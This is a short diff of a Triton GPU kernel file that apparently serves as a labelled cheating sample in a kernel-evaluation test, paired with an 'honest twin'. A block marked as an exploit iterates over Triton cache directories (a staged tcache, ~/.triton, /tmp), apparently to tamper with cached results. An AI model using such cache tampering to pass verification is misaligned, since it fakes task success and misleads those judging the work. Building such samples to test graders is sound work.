@@ -7,12 +7,12 @@ scratch and its own cache: the verify of the identical honest twin is unaffected
 gpu: harmless
 """
 
+# -- exploit
+from pathlib import Path
+
 import torch
 import triton
 import triton.language as tl
-
-# -- exploit
-from pathlib import Path
 
 _stage = Path(__file__).resolve().parents[2]
 for _root in [_stage / "tcache", Path.home() / ".triton", Path("/tmp")]:
@@ -23,6 +23,7 @@ for _root in [_stage / "tcache", Path.home() / ".triton", Path("/tmp")]:
     except OSError:
         pass
 # -- end exploit
+
 
 @triton.jit
 def _kernel(x_ptr, g_ptr, w_ptr, out_ptr, dim, eps, BLOCK: tl.constexpr):
